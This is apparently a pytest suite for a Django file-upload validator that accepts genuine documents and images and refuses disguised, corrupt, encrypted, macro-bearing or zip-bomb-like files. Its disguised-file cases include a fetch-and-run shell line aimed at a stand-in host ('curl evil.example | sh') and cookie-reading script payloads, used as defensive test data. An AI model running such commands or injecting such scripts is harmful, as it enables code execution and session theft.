"""file_check on files built here: real documents pass, disguised and broken ones are refused."""

import hashlib
import io
import re
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter

from applications.file_checks import CheckedFile, file_check

MEGABYTE = 1024 * 1024
ALL_FORMATS = ["pdf", "docx", "xlsx", "odt", "png", "jpeg"]
ODT_MIMETYPE = b"application/vnd.oasis.opendocument.text"


def pdf_bytes(*, user_password: str | None = None, owner_password: str | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if user_password is not None:
        writer.encrypt(user_password=user_password, owner_password=owner_password)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def zip_bytes(entries: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            # OpenDocument wants its mimetype stored, not compressed.
            method = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, compress_type=method)
    return buffer.getvalue()


def docx_bytes(*extra: tuple[str, bytes]) -> bytes:
    return zip_bytes(
        [
            ("[Content_Types].xml", b"<?xml version='1.0'?><Types/>"),
            ("_rels/.rels", b"<?xml version='1.0'?><Relationships/>"),
            ("word/document.xml", b"<?xml version='1.0'?><w:document/>"),
            *extra,
        ]
    )


def xlsx_bytes() -> bytes:
    return zip_bytes(
        [
            ("[Content_Types].xml", b"<?xml version='1.0'?><Types/>"),
            ("xl/workbook.xml", b"<?xml version='1.0'?><workbook/>"),
        ]
    )


def odt_bytes(content: bytes = b"<office:document-content/>", manifest: bytes = b"") -> bytes:
    return zip_bytes(
        [
            ("mimetype", ODT_MIMETYPE),
            ("content.xml", content),
            ("META-INF/manifest.xml", manifest or b"<manifest:manifest/>"),
        ]
    )


def image_bytes(pillow_format: str, size: tuple[int, int] = (40, 30), noise: bool = False) -> bytes:
    image = Image.effect_noise(size, 80).convert("RGB") if noise else Image.new("RGB", size, "red")
    buffer = io.BytesIO()
    image.save(buffer, pillow_format)
    return buffer.getvalue()


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    # The browser's content type is a claim the check must ignore; always claim PDF.
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def refusal(
    name: str, content: bytes, allowed: list[str] | None = None, max_bytes: int = 10 * MEGABYTE
) -> ValidationError:
    uploaded = upload(name, content)
    with pytest.raises(ValidationError) as caught:
        file_check(uploaded=uploaded, allowed_formats=allowed or ALL_FORMATS, max_bytes=max_bytes)
    assert uploaded.tell() == 0
    return caught.value


def message(error: ValidationError) -> str:
    return " ".join(error.messages)


def test_file_check_accepts_a_real_pdf_and_describes_it():
    content = pdf_bytes()
    uploaded = upload("letter.pdf", content)

    checked = file_check(uploaded=uploaded, allowed_formats=["pdf"], max_bytes=MEGABYTE)

    assert checked == CheckedFile(
        format="pdf",
        content_type="application/pdf",
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        extension="pdf",
    )
    assert uploaded.tell() == 0
    assert uploaded.read() == content


def test_file_check_accepts_an_upper_case_extension():
    checked = file_check(
        uploaded=upload("REPORT.PDF", pdf_bytes()), allowed_formats=["pdf"], max_bytes=MEGABYTE
    )

    assert (checked.format, checked.extension) == ("pdf", "pdf")


@pytest.mark.parametrize(
    ("name", "content", "format_", "content_type", "extension"),
    [
        (
            "self-assessment.docx",
            docx_bytes(),
            "docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            "docx",
        ),
        (
            "budget.xlsx",
            xlsx_bytes(),
            "xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            "xlsx",
        ),
        ("declaration.odt", odt_bytes(), "odt", "application/vnd.oasis.opendocument.text", "odt"),
        ("scan.png", image_bytes("PNG"), "png", "image/png", "png"),
        ("photo.JPEG", image_bytes("JPEG"), "jpeg", "image/jpeg", "jpg"),
        ("photo.jpg", image_bytes("JPEG", noise=True), "jpeg", "image/jpeg", "jpg"),
    ],
)
def test_file_check_accepts_each_real_format(name, content, format_, content_type, extension):
    uploaded = upload(name, content)

    checked = file_check(uploaded=uploaded, allowed_formats=ALL_FORMATS, max_bytes=MEGABYTE)

    assert (checked.format, checked.content_type, checked.extension) == (
        format_,
        content_type,
        extension,
    )
    assert checked.sha256 == hashlib.sha256(content).hexdigest()
    assert checked.size == len(content)
    assert uploaded.tell() == 0


def test_file_check_accepts_a_pdf_restricted_only_by_an_owner_password():
    # No password is needed to open it, so reviewers can read it.
    content = pdf_bytes(user_password="", owner_password="no-editing")

    checked = file_check(
        uploaded=upload("signed.pdf", content), allowed_formats=["pdf"], max_bytes=MEGABYTE
    )

    assert checked.format == "pdf"


def test_file_check_refuses_an_empty_file():
    error = refusal("letter.pdf", b"")

    assert error.code == "empty"
    assert "empty" in message(error)


def test_file_check_refuses_a_file_over_the_limit_and_gives_both_sizes():
    error = refusal("letter.pdf", b"%PDF-1.4\n" + b"0" * (MEGABYTE * 3 // 2), max_bytes=MEGABYTE)

    assert error.code == "too_large"
    assert "The file is 1.6 MB; the limit is 1 MB." in message(error)


def test_file_check_counts_the_bytes_rather_than_trusting_the_declared_size():
    uploaded = upload("letter.pdf", pdf_bytes() + b"\n" * (2 * MEGABYTE))
    uploaded.size = 10

    with pytest.raises(ValidationError) as caught:
        file_check(uploaded=uploaded, allowed_formats=["pdf"], max_bytes=MEGABYTE)

    assert caught.value.code == "too_large"
    assert uploaded.tell() == 0


@pytest.mark.parametrize("name", ["letter.exe", "letter.pdf.exe", "letter", "letter.", "pdf"])
def test_file_check_refuses_an_extension_that_is_not_allowed(name):
    error = refusal(name, pdf_bytes(), allowed=["pdf", "jpeg"])

    assert error.code == "extension"
    assert "PDF, JPEG" in message(error)


def test_file_check_refuses_a_valid_pdf_when_only_word_is_allowed():
    error = refusal("letter.pdf", pdf_bytes(), allowed=["docx"])

    assert error.code == "extension"
    assert "DOCX" in message(error)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("letter.pdf", b"MZ" + b"\x90\x00" * 200),
        ("letter.docx", b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
        ("letter.pdf", b"\xcf\xfa\xed\xfe" + b"\x00" * 200),
        ("letter.pdf", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("letter.pdf", b"<!DOCTYPE html><html><body>Endorsement</body></html>"),
        ("letter.pdf", b"%PDF-1.4\n<html><script>alert(document.cookie)</script></html>\n%%EOF"),
        ("scan.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>'),
        ("data.xlsx", b'<?xml version="1.0"?><doc><SCRIPT>alert(1)</SCRIPT></doc>'),
    ],
)
def test_file_check_refuses_programs_and_web_pages_disguised_as_documents(name, content):
    error = refusal(name, content)

    assert error.code == "disguised"
    assert "not a document" in message(error)


def test_file_check_refuses_a_word_document_with_macros():
    error = refusal("letter.docx", docx_bytes(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")))

    assert error.code == "macros"
    assert "macros" in message(error)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("letter.pdf", b"Dear committee, we endorse this application."),
        ("letter.docx", pdf_bytes()),
        ("letter.docx", xlsx_bytes()),
        ("budget.xlsx", docx_bytes()),
        ("declaration.odt", docx_bytes()),
        ("scan.jpg", image_bytes("PNG")),
        ("scan.png", image_bytes("JPEG")),
        ("scan.png", b"GIF89a" + b"\x00" * 100),
    ],
)
def test_file_check_refuses_content_that_is_another_format(name, content):
    error = refusal(name, content)

    assert error.code == "content_mismatch"
    assert "not a real" in message(error)


def test_file_check_refuses_an_odt_whose_first_entry_is_not_its_mimetype():
    content = zip_bytes([("content.xml", b"<x/>"), ("mimetype", ODT_MIMETYPE)])

    assert refusal("declaration.odt", content).code == "content_mismatch"


def test_file_check_refuses_a_truncated_pdf():
    content = pdf_bytes()

    error = refusal("letter.pdf", content[: len(content) // 2])

    assert error.code == "corrupt"
    assert "PDF" in message(error)


@pytest.mark.parametrize(
    "damage",
    [
        lambda pdf: re.sub(rb"startxref\s+\d+", b"startxref\n12", pdf),
        lambda pdf: pdf.replace(b"\nxref\n", b"\nxqef\n"),
        lambda pdf: pdf.replace(b"/Kids [ 4 0 R ]", b"/Kids [ 7 0 R ]"),
        lambda pdf: pdf.replace(b"%PDF-1.3", b"%PDF-9.9"),
        lambda pdf: b"%PDF-1.4\n<p>Endorsement letter</p>\n%%EOF\n",
    ],
    ids=["startxref", "xref", "page_tree", "version", "text_after_header"],
)
def test_file_check_refuses_a_damaged_pdf(damage):
    content = pdf_bytes()
    damaged = damage(content)
    assert damaged != content

    error = refusal("letter.pdf", damaged)

    assert error.code == "corrupt"
    assert "damaged" in message(error)


def test_file_check_refuses_a_pdf_that_needs_a_password_to_open():
    error = refusal("letter.pdf", pdf_bytes(user_password="secret", owner_password="owner"))

    assert error.code == "encrypted"
    assert "password" in message(error)


def test_file_check_refuses_an_odt_encrypted_by_its_manifest():
    manifest = b"<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"

    assert refusal("declaration.odt", odt_bytes(manifest=manifest)).code == "encrypted"


def test_file_check_refuses_a_zip_bomb_like_odt():
    # 3 MB of zeros deflate to about 3 KB: far beyond the 100x a real document reaches.
    error = refusal("declaration.odt", odt_bytes(content=b"\x00" * (3 * MEGABYTE)))

    assert error.code == "suspicious_archive"
    assert "ODT" in message(error)


def test_file_check_refuses_a_broken_zip():
    content = docx_bytes()

    error = refusal("letter.docx", content[: len(content) - 40])

    assert error.code == "corrupt"
    assert "DOCX" in message(error)


def test_file_check_refuses_a_zip_whose_entry_fails_its_checksum():
    content = bytearray(docx_bytes())
    # Flip a byte inside the first entry's compressed data, past its 30-byte header and name.
    content[30 + len("[Content_Types].xml") + 2] ^= 0xFF

    assert refusal("letter.docx", bytes(content)).code == "corrupt"


def test_file_check_refuses_a_truncated_jpeg():
    content = image_bytes("JPEG", size=(300, 300), noise=True)

    error = refusal("photo.jpg", content[: len(content) * 2 // 3])

    assert error.code == "corrupt"
    assert "JPEG" in message(error)


def test_file_check_refuses_a_png_with_a_bad_checksum():
    content = bytearray(image_bytes("PNG"))
    content[20] ^= 0xFF  # inside the IHDR chunk, whose CRC then no longer matches

    assert refusal("scan.png", bytes(content)).code == "corrupt"


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
@pytest.mark.parametrize("limit", [1_500, 200], ids=["warning_zone", "pillow_error"])
def test_file_check_refuses_an_image_with_too_many_pixels(monkeypatch, limit):
    # Lower Pillow's own limit rather than build a 90-megapixel image in a unit test.
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", limit)

    error = refusal("scan.png", image_bytes("PNG", size=(40, 50)))

    assert error.code == "suspicious_image"
    assert "pixels" in message(error)


def test_file_check_rejects_an_unknown_allowed_format_as_a_programming_error():
    with pytest.raises(ValueError):
        file_check(uploaded=upload("a.gif", b"GIF89a"), allowed_formats=["gif"], max_bytes=10)
